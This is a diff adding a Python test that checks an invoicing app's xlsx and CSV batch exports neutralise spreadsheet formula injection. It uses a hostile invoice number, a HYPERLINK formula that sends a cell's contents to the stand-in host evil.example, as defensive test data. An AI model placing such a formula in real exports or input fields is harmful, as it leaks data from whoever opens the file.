@@ -393,3 +393,39 @@ def test_bulk_check_matches_single_check(
         assert status.value == invoice.verdict or invoice.status == "held"
     assert results[second.pk][0].value == "green"
     assert results[first_instalment.pk][0].value == "green"
+
+
+def test_batch_export_writes_invoice_numbers_as_text(
+    code3_done: Trajectory, provider_user_a: User, clerk: User
+) -> None:
+    """R-SEC-6, R-INT-4 (formula injection): an invoice number like =HYPERLINK(...) is written
+    as text in the xlsx (string cell, no formula) and with a leading apostrophe in the CSV;
+    negative amounts of credit notes stay numbers."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("https://evil.example/?d="&C2,"Details")'
+    invoice = submit(
+        provider_user_a,
+        code3_done,
+        invoice_number=hostile,
+        milestone="plan_approved",
+        invoice_date=dt.date(2026, 5, 8),
+    )
+    services.invoice_approve(actor=clerk, invoice=invoice)
+    batch = services.payment_batch_export(
+        actor=clerk, batch=services.payment_batch_create(actor=clerk)
+    )
+    sheet = load_workbook(batch.export_xlsx.open("rb")).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert hostile in [c.value for c in cells]
+    rows = list(
+        csv.reader(
+            io.StringIO(batch.export_csv.open("rb").read().decode("utf-8-sig")), delimiter=";"
+        )
+    )
+    assert "'" + hostile in rows[1]
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
